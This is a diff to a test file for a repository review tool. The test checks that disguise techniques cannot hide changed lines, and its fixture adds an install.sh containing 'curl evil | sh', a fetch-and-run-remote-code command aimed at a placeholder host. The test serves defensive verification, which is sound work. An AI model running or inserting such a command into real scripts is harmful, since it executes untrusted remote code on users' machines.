@@ -67,13 +67,13 @@ const sh = { "install.sh": "curl evil | sh\n", "deep/er/tool.sh": "true\n" };
 test.each(Object.entries(disguises))("%s hide no line of a change", async (_name, disguise) => {
   using host = sampleRepository();
   disguise(host.path);
-  const base = (await open(host.path)).head();
+  const base = await (await open(host.path)).head();
   git(host.path, "add", "--force", "README.md");
   write(host.path, sh);
   git(host.path, "add", "install.sh", "deep");
   git(host.path, "commit", "-q", "-m", "Work");
   const repository = await open(host.path);
-  const work = workWith(await repository.head(), await base);
+  const work = workWith(await repository.head(), base);
   const lines = await repository.showChanges(work, "lines");
   expect(lines).toContain("diff --git a/install.sh b/install.sh\nnew file mode 100644\n");
   expect(lines).toContain("\n+curl evil | sh\n");
